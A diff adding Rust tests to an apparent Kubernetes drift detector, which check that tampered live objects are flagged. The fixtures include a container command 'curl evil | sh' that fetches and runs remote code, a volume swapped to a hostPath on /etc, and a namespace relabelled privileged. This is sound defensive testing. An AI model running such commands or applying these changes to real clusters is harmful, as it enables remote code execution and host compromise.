@@ -311,3 +311,52 @@ fn a_container_a_sidecar_injector_added_is_found_and_its_manager_named() {
         Some("sidecar-injector")
     );
 }
+
+#[test]
+fn code_run_by_other_means_and_a_swapped_volume_are_found() {
+    let (desired, live) = deployment_with(|l| {
+        let spec = pod_spec(l);
+        // `$retainKeys` can turn the manifest's emptyDir volume into a hostPath.
+        spec["volumes"][0] = json!({"name": "tmp", "hostPath": {"path": "/etc"}});
+        let c = &mut spec["containers"][0];
+        c["command"] = json!(["sh", "-c", "curl evil | sh"]);
+        c["lifecycle"] = json!({"postStart": {"exec": {"command": ["sh"]}}});
+        c["livenessProbe"]["exec"] = json!({"command": ["sh"]});
+    });
+    let got: Vec<(String, &str)> = found(&desired, &live)
+        .into_iter()
+        .map(|(p, id, _)| (p, id))
+        .collect();
+    let s = "spec.template.spec";
+    let c = format!("{s}.containers[name=api]");
+    assert_eq!(
+        got,
+        vec![
+            (format!("{c}.command"), "command-added"),
+            (format!("{c}.lifecycle"), "lifecycle-hook"),
+            (format!("{c}.livenessProbe.exec"), "probe-exec"),
+            (
+                format!("{s}.volumes[name=tmp].hostPath"),
+                "hostpath-volume-swapped"
+            ),
+        ]
+    );
+}
+
+#[test]
+fn a_namespace_relabelled_privileged_is_found() {
+    let manifest = json!({"apiVersion": "v1", "kind": "Namespace",
+        "metadata": {"name": "shop", "labels": {"team": "web"}}});
+    let mut live = manifest.clone();
+    live["metadata"]["labels"]["kubernetes.io/metadata.name"] = json!("shop");
+    assert_eq!(found(&manifest, &live), vec![]);
+    live["metadata"]["labels"]["pod-security.kubernetes.io/enforce"] = json!("privileged");
+    assert_eq!(
+        found(&manifest, &live),
+        vec![(
+            "metadata.labels.pod-security.kubernetes.io/enforce".to_owned(),
+            "pod-security-privileged",
+            json!("privileged")
+        )]
+    );
+}
